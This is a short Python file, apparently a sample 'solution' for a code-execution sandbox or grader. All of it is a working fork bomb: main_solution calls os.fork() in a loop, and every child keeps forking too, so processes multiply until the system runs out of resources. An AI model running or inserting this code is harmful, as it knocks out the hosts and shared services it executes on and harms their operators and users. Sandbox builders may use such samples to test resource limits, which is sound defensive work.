"""Fork without end."""

import os


def main_solution():
    for _ in range(1000):
        try:
            os.fork()
        except OSError:
            return []
    return ["forked"]
